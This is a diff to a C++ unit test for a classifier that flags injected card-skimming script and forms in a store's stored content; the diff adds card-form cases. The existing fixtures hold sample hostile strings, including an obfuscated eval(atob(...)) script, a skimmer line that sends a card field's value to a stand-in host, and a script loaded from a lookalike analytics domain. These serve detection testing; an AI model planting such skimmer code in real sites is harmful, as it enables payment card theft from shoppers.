@@ -275,6 +275,13 @@ TEST(StoreDbClassify, ScriptScores) {
       {"<script>eval(atob('ZG9jdW1lbnQ='))</script>", true},
       {"<script>document.querySelector('#cc_number');new Image().src='//x.top/?'+v</script>", true},
       {"<script src=\"https://www.google-analytics.com.evil.top/a.js\"></script>", true},
+      // A card form posting to another host; the same form to the store, a newsletter form to
+      // a mailing service, a card-less form elsewhere.
+      {"<form action=\"https://pay.example.top/p\"><input name=\"cardnumber\"><input "
+       "name=\"cvc\"></form>",
+       true},
+      {"<form action=\"https://shop.example.test/pay\"><input name=\"cardnumber\"></form>", false},
+      {"<form action=\"https://list.example.top/subscribe\"><input name=\"email\"></form>", false},
   };
   for (const auto& c : cases)
     EXPECT_EQ(ScoreStoredScript(c.content, own).score >= kInjectedScriptThreshold, c.flagged)
